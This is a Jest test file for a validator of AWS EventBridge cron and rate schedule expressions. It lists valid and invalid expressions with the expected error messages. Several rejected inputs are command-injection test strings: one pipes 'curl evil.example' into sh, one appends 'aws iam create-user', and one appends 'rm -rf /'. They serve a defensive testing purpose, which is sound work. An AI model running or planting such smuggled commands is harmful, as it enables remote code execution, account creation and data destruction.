import { toEventBridgeCron } from './cronSchedule';
import { validateScheduleExpression } from './scheduleExpression';

describe('validateScheduleExpression', () => {
  it.each([
    'cron(0 2 * * ? *)',
    'cron(0/15 * * * ? *)',
    'cron(*/15 * * * ? *)',
    'cron(0 8-18 ? * MON-FRI *)',
    'cron(30 1 ? * 2-6 *)',
    'cron(0 0 L * ? *)',
    'cron(0 0 15W * ? *)',
    'cron(0 0 ? * 6L *)',
    'cron(0 0 ? * 3#2 *)',
    'cron(0,30 0 1,15 JAN,jul ? 2026-2030)',
    'rate(1 minute)',
    'rate(5 minutes)',
    'rate(1 hour)',
    'rate(12 hours)',
    'rate(1 day)',
    'rate(7 days)',
  ])('accepts %s', expression => {
    expect(validateScheduleExpression(expression)).toBeUndefined();
  });

  it('accepts what the form turns its five-field cron expressions into', () => {
    for (const cron of [
      '0 2 * * *',
      '*/15 * * * *',
      '0 6 * * 1-5',
      '0 0 1 */3 *',
    ]) {
      expect(
        validateScheduleExpression(toEventBridgeCron(cron)),
      ).toBeUndefined();
    }
  });

  it.each([
    [
      "cron(0 2 * * ? *)' ; curl evil.example | sh ; echo '",
      /characters that are not part/,
    ],
    ['cron(0 2 * * ? *)\naws iam create-user', /characters that are not part/],
    ['cron(0\u00a02 * * ? *)', /characters that are not part/],
    ['cron(0 2 * * ?)', /six fields/],
    ['cron(0  2 * * ? *)', /six fields/],
    ['cron(0 2 * * * *)', /exactly one of day-of-month and day-of-week/],
    ['cron(0 2 ? * ? *)', /exactly one of day-of-month and day-of-week/],
    ['cron(60 2 * * ? *)', /the minutes field '60' is not valid/],
    ['cron(0 24 * * ? *)', /the hours field '24'/],
    ['cron(0 2 0 * ? *)', /the day-of-month field '0'/],
    ['cron(0 2 ? * 8 *)', /the day-of-week field '8'/],
    ['cron(0 2 ? * 0 *)', /the day-of-week field '0'/],
    ['cron(0 2 * 13 ? *)', /the month field '13'/],
    ['cron(0 2 * * ? 1969)', /the year field '1969'/],
    ['cron(? 2 * * ? *)', /the minutes field cannot be '\?'/],
    ['cron(5-1 2 * * ? *)', /the minutes field '5-1'/],
    ['cron(0/0 2 * * ? *)', /the minutes field '0\/0'/],
    ['cron(0 2 * * ? *) ', /use cron/],
    ['cron((0 2 * * ? *))', /use cron/],
    ['0 2 * * *', /use cron/],
    ['at(2026-01-01T00:00:00)', /characters that are not part/],
    ['rate(0 hours)', /a whole number and a unit/],
    ['rate(1 hours)', /rate\(1 …\) takes minute, hour, day, not 'hours'/],
    ['rate(2 hour)', /rate\(2 …\) takes minutes, hours, days, not 'hour'/],
    ['rate(1 week)', /not 'week'/],
    ['rate(1  hour)', /a whole number and a unit/],
    [`cron(${'0,'.repeat(200)}0 2 * * ? *)`, /at most 256 characters/],
  ])('refuses %j', (expression, message) => {
    expect(validateScheduleExpression(expression)).toMatch(message);
  });

  it('quotes the expression as JSON in its message, so that it cannot break a log line', () => {
    expect(validateScheduleExpression('cron(0 2 * * ? *)\nrm -rf /')).toBe(
      'Invalid schedule "cron(0 2 * * ? *)\\nrm -rf /": it holds characters that are not part of a cron(…) or rate(…) expression',
    );
  });
});
